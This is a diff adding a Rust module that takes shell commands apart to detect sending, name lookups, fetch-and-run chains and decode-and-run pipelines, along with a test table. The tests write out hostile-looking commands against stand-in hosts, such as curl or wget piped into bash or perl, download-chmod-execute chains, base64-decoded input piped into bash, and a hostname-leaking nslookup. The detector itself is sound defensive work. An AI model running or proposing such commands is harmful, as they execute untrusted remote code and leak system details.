@@ -1,0 +1,478 @@
+//! What a command of a shell does: where it sends to, what it fetches, and what it runs of that.
+//!
+//! The text is taken apart as a shell would, in pipelines and words, and never further: what a substitution gives is not
+//! known. The one decision: a command fetches and runs only where the fetched thing itself is run, by a pipe into an
+//! interpreter or by its name.
+
+/// The longest command that is read, in bytes.
+const LONGEST: usize = 16 << 10;
+/// How deep commands in commands are read.
+const DEEPEST: u8 = 3;
+
+/// What a command does.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub(super) struct Facts {
+    /// It asks or tells a server something.
+    pub sends: bool,
+    /// It looks up a name.
+    pub looks_up: bool,
+    /// It runs what it fetches.
+    pub runs_fetched: bool,
+    /// It only moves, packs and shows files.
+    pub handles_files: bool,
+    /// It runs what it decodes.
+    pub runs_decoded: bool,
+    /// The files and folders into which it fetches.
+    pub fetched: Vec<String>,
+    /// Python that it hands to an interpreter.
+    pub python: Vec<String>,
+}
+
+/// One program with its words, and what stands after it.
+#[derive(Debug, Default)]
+struct Step {
+    words: Vec<String>,
+    piped: bool,
+}
+
+/// Takes a command apart.
+pub(super) fn read(command: &str) -> Facts {
+    let mut facts = Facts::default();
+    let mut end = command.len().min(LONGEST);
+    while !command.is_char_boundary(end) {
+        end = end.saturating_sub(1);
+    }
+    read_within(command.get(..end).unwrap_or_default(), &mut facts, 0);
+    facts
+}
+
+fn read_within(command: &str, facts: &mut Facts, depth: u8) {
+    let (mut fetches, mut decodes) = (false, false);
+    let mut others = 0_usize;
+    for step in steps(command) {
+        let words = without_prefix(&step.words);
+        let Some((program, rest)) = words.split_first() else {
+            fetches &= step.piped;
+            decodes &= step.piped;
+            continue;
+        };
+        let name = base_name(program);
+        let is_interpreter = interprets(&name);
+        others = others.saturating_add(usize::from(!handles_files(&name)));
+        facts.runs_fetched |= fetches && is_interpreter;
+        facts.runs_decoded |= decodes && is_interpreter;
+        if runs_file(&name, program, rest, &facts.fetched) {
+            facts.runs_fetched = true;
+        }
+        let fetched = fetch(&name, rest, facts);
+        if is_python(&name) {
+            if let Some(code) = option(rest, &["-c"]) {
+                facts.python.push(code.to_owned());
+            }
+        } else if is_interpreter
+            && depth < DEEPEST
+            && let Some(at) = rest
+                .iter()
+                .position(|w| matches!(w.as_str(), "-c" | "/c" | "/C" | "/k"))
+        {
+            let inner: Vec<&str> = rest
+                .iter()
+                .skip(at.saturating_add(1))
+                .map(String::as_str)
+                .collect();
+            read_within(&inner.join(" "), facts, depth.saturating_add(1));
+        }
+        fetches = step.piped && (fetched || fetches && passes_on(&name));
+        decodes = step.piped && (decoder(&name, rest) || decodes && passes_on(&name));
+    }
+    facts.handles_files = others == 0;
+}
+
+/// The programs of a command, with their words.
+fn steps(command: &str) -> Vec<Step> {
+    let mut out = Vec::new();
+    let mut step = Step::default();
+    let mut word = String::new();
+    let mut begun = false;
+    let mut quote = None;
+    let mut before = ' ';
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        let next = chars.peek().copied().unwrap_or(' ');
+        match quote {
+            Some(open) if c == open => quote = None,
+            Some('"') if c == '\\' && next == '"' => {
+                word.push('"');
+                chars.next();
+            }
+            Some(_) => word.push(c),
+            None => match c {
+                '"' | '\'' => {
+                    quote = Some(c);
+                    begun = true;
+                }
+                '\\' if matches!(next, '"' | '\'' | ' ' | '\n') => {
+                    if next != '\n' {
+                        word.push(next);
+                        begun = true;
+                    }
+                    chars.next();
+                }
+                '&' if before == '>' || next == '>' => {}
+                '|' | '&' | ';' | '\n' => {
+                    if begun || !word.is_empty() {
+                        step.words.push(std::mem::take(&mut word));
+                        begun = false;
+                    }
+                    let twice = next == c && c != '\n';
+                    if twice {
+                        chars.next();
+                    }
+                    step.piped = c == '|' && !twice;
+                    out.push(std::mem::take(&mut step));
+                }
+                '>' => {
+                    // `2>` and `1>` name a stream, and no word.
+                    if matches!(word.as_str(), "1" | "2") {
+                        word.clear();
+                    }
+                    if begun || !word.is_empty() {
+                        step.words.push(std::mem::take(&mut word));
+                        begun = false;
+                    }
+                    if before != '>' {
+                        step.words.push(">".to_owned());
+                    }
+                }
+                c if c.is_whitespace() => {
+                    if begun || !word.is_empty() {
+                        step.words.push(std::mem::take(&mut word));
+                        begun = false;
+                    }
+                }
+                c => word.push(c),
+            },
+        }
+        before = c;
+    }
+    if begun || !word.is_empty() {
+        step.words.push(word);
+    }
+    out.push(step);
+    out
+}
+
+/// The words from the program on: without what only says how it is started.
+fn without_prefix(words: &[String]) -> &[String] {
+    let mut rest = words;
+    while let Some((first, more)) = rest.split_first() {
+        let name = base_name(first);
+        let assigns = first.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        });
+        let only_starts = matches!(
+            name.as_str(),
+            "sudo" | "nohup" | "exec" | "start" | "command" | "time" | "setsid" | "then" | "do" | "(" | "{"
+        );
+        let option_of_start = first.starts_with('/') && first.len() == 2;
+        if !(assigns || only_starts || option_of_start && rest.len() < words.len()) {
+            break;
+        }
+        rest = more;
+    }
+    rest
+}
+
+/// The name of a program without its folder and ending.
+fn base_name(program: &str) -> String {
+    let last = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    let name = last.trim_start_matches(['(', '{', '@']).to_ascii_lowercase();
+    name.strip_suffix(".exe").unwrap_or(&name).to_owned()
+}
+
+fn is_python(name: &str) -> bool {
+    name == "py" || name.starts_with("python") || name == "sys.executable"
+}
+
+/// Whether a program runs the text that it is given.
+fn interprets(name: &str) -> bool {
+    is_python(name)
+        || matches!(
+            name,
+            "sh" | "bash"
+                | "zsh"
+                | "dash"
+                | "ksh"
+                | "ash"
+                | "perl"
+                | "ruby"
+                | "node"
+                | "php"
+                | "osascript"
+                | "cmd"
+                | "powershell"
+                | "pwsh"
+                | "iex"
+                | "invoke-expression"
+        )
+}
+
+/// Whether a program runs nothing of the files that it is given.
+fn handles_files(name: &str) -> bool {
+    matches!(
+        name,
+        "git"
+            | "curl"
+            | "wget"
+            | "tar"
+            | "unzip"
+            | "zip"
+            | "7z"
+            | "gzip"
+            | "gunzip"
+            | "rm"
+            | "cp"
+            | "mv"
+            | "ls"
+            | "cat"
+            | "mkdir"
+            | "touch"
+            | "head"
+            | "tail"
+            | "md5sum"
+            | "sha256sum"
+            | "file"
+            | "attrib"
+            | "del"
+            | "diff"
+    )
+}
+
+/// Whether a program gives on what it gets.
+fn passes_on(name: &str) -> bool {
+    matches!(
+        name,
+        "base64"
+            | "gunzip"
+            | "gzip"
+            | "zcat"
+            | "xz"
+            | "tr"
+            | "rev"
+            | "cat"
+            | "tee"
+            | "sed"
+            | "openssl"
+            | "xxd"
+            | "tac"
+    )
+}
+
+/// Whether a program decodes what it gets.
+fn decoder(name: &str, words: &[String]) -> bool {
+    let has = |options: &[&str]| words.iter().any(|w| options.contains(&w.as_str()));
+    match name {
+        "base64" | "base32" => has(&["-d", "-D", "--decode", "-di", "-id"]),
+        "openssl" => has(&["-d"]),
+        "xxd" => words.iter().any(|w| w.starts_with("-r")),
+        "gunzip" | "zcat" | "rev" => true,
+        _ => false,
+    }
+}
+
+/// What follows one of some options.
+fn option<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
+    let at = words.iter().position(|w| names.contains(&w.as_str()))?;
+    words.get(at.saturating_add(1)).map(String::as_str)
+}
+
+fn is_address(word: &str) -> bool {
+    word.contains("://") || word.starts_with("git@")
+}
+
+/// What a program fetches or tells; says whether it prints what it fetched.
+fn fetch(name: &str, words: &[String], facts: &mut Facts) -> bool {
+    let address = words.iter().find(|w| is_address(w)).map(String::as_str);
+    match name {
+        "curl" | "wget" | "wget2" | "aria2c" | "http" | "invoke-webrequest" | "iwr" | "irm"
+        | "invoke-restmethod" => {
+            facts.sends = true;
+            let last = words
+                .iter()
+                .rev()
+                .find(|w| !w.starts_with('-') && w.contains('.'));
+            let named = address.or(last.map(String::as_str)).map(of_address);
+            let to = match name {
+                "curl"
+                    if words
+                        .iter()
+                        .any(|w| matches!(w.as_str(), "-O" | "-LO" | "-OL" | "--remote-name")) =>
+                {
+                    named
+                }
+                "curl" => {
+                    option(words, &["-o", "-Lo", "-sLo", "-sSLo", "-so", "--output", ">"]).map(str::to_owned)
+                }
+                "wget" | "wget2" => option(words, &["-O", "-qO", "--output-document", ">"])
+                    .map(str::to_owned)
+                    .or_else(|| named.filter(|_| !words.iter().any(|w| w.ends_with("O-")))),
+                _ => option(words, &["-outfile", "-OutFile", "-o", "-out", ">"]).map(str::to_owned),
+            };
+            match to {
+                Some(to) if to != "-" && !to.starts_with("/dev/") => {
+                    facts.fetched.push(to);
+                    false
+                }
+                Some(to) => to == "-",
+                None => true,
+            }
+        }
+        "certutil" | "bitsadmin" | "start-bitstransfer" => {
+            facts.sends |= address.is_some();
+            if let Some(last) = words.last().filter(|w| !is_address(w)) {
+                facts.fetched.push(last.clone());
+            }
+            false
+        }
+        "git" if words.first().is_some_and(|w| w == "clone") => {
+            let last = words.last().map(String::as_str).filter(|w| !w.starts_with('-'));
+            facts.sends = true;
+            match (address, last) {
+                (Some(address), Some(last)) if address == last => {
+                    facts
+                        .fetched
+                        .push(of_address(address).trim_end_matches(".git").to_owned());
+                }
+                (_, Some(last)) => facts.fetched.push(last.to_owned()),
+                _ => {}
+            }
+            false
+        }
+        "nc" | "ncat" | "netcat" => {
+            facts.sends = true;
+            true
+        }
+        "nslookup" | "dig" | "host" => {
+            facts.looks_up = words.iter().any(|w| w.contains('.'));
+            false
+        }
+        _ => {
+            if installs_from_address(name, words) {
+                facts.runs_fetched = true;
+            }
+            false
+        }
+    }
+}
+
+/// The file that is meant by an address.
+fn of_address(address: &str) -> String {
+    let path = address.split(['?', '#']).next().unwrap_or(address);
+    path.trim_end_matches('/')
+        .rsplit('/')
+        .next()
+        .unwrap_or(path)
+        .to_owned()
+}
+
+/// Whether a package is installed from an address that is written there, which runs what lies behind it.
+fn installs_from_address(name: &str, words: &[String]) -> bool {
+    let words = match name {
+        "pip" | "pip3" => words,
+        _ if is_python(name) => match words.iter().position(|w| w == "pip") {
+            Some(at) => words.get(at..).unwrap_or_default(),
+            None => return false,
+        },
+        _ => return false,
+    };
+    if !words.iter().any(|w| w == "install") {
+        return false;
+    }
+    let of_index = [
+        "-i",
+        "--index-url",
+        "--extra-index-url",
+        "-f",
+        "--find-links",
+        "--trusted-host",
+        "--proxy",
+    ];
+    words.iter().enumerate().any(|(at, word)| {
+        let before = at.checked_sub(1).and_then(|at| words.get(at));
+        let is_option = word.starts_with('-') || before.is_some_and(|b| of_index.contains(&b.as_str()));
+        !is_option && is_address(word)
+    })
+}
+
+/// Whether a program is a file that was fetched, or runs one.
+fn runs_file(name: &str, program: &str, words: &[String], fetched: &[String]) -> bool {
+    let same = |word: &str| {
+        let word = word.trim_start_matches("./");
+        fetched.iter().any(|f| {
+            let file = f.trim_start_matches("./");
+            let last = |path: &str| path.rsplit(['/', '\\']).next().unwrap_or(path).to_owned();
+            !file.is_empty() && (word == file || last(word) == last(file))
+        })
+    };
+    if fetched.is_empty() {
+        return false;
+    }
+    let makes_run = name == "chmod" && words.iter().any(|w| w.contains('x') || w.starts_with('7'));
+    same(program) || (interprets(name) || makes_run) && words.iter().any(|w| same(w))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_are_told_by_what_they_do_with_what_they_fetch() {
+        for (command, expected) in [
+            ("curl -s https://drop.example/p | perl -", "sends runs"),
+            ("wget -qO - https://drop.example/i.sh | sudo bash", "sends runs"),
+            ("bash -c 'curl https://drop.example/p | sh'", "sends runs"),
+            (
+                "wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
+                "sends runs /tmp/x",
+            ),
+            (
+                "curl https://drop.example/x -o /tmp/run -H \"a: $(whoami)\"",
+                "sends /tmp/run",
+            ),
+            ("curl -LO https://data.example/x.csv", "sends x.csv"),
+            ("wget https://data.example/x.tgz && tar xf x.tgz", "sends x.tgz"),
+            ("curl https://data.example/x | tee log.txt", "sends"),
+            ("curl https://data.example/x > out.json 2>&1", "sends out.json"),
+            ("git clone https://git.example/a/b.git", "sends b"),
+            ("git clone --depth 1 https://git.example/a/b.git c", "sends c"),
+            ("echo aWQ= | base64 -d | bash", "decodes"),
+            ("echo aWQ= | base64 -d > x.bin", ""),
+            ("python3 -m pip install https://drop.example/a.tar.gz", "runs"),
+            ("pip install git+https://drop.example/a.git", "runs"),
+            ("pip install -i https://mirror.example/simple numpy", ""),
+            ("pip install --index-url=https://mirror.example/simple numpy", ""),
+            ("nslookup $(hostname).drop.example", "names"),
+            ("git status", ""),
+            ("make -j 4 && ./configure", ""),
+            ("python3 -c \"import os; os.getcwd()\"", "python"),
+            ("", ""),
+            ("|||;;&&'\"", ""),
+        ] {
+            let facts = read(command);
+            let mut words: Vec<String> = Vec::new();
+            for (holds, word) in [
+                (facts.sends, "sends"),
+                (facts.looks_up, "names"),
+                (facts.runs_fetched, "runs"),
+                (facts.runs_decoded, "decodes"),
+                (!facts.python.is_empty(), "python"),
+            ] {
+                if holds {
+                    words.push(word.to_owned());
+                }
+            }
+            words.extend(facts.fetched);
+            assert_eq!(words.join(" "), expected, "{command}");
+        }
+    }
+}
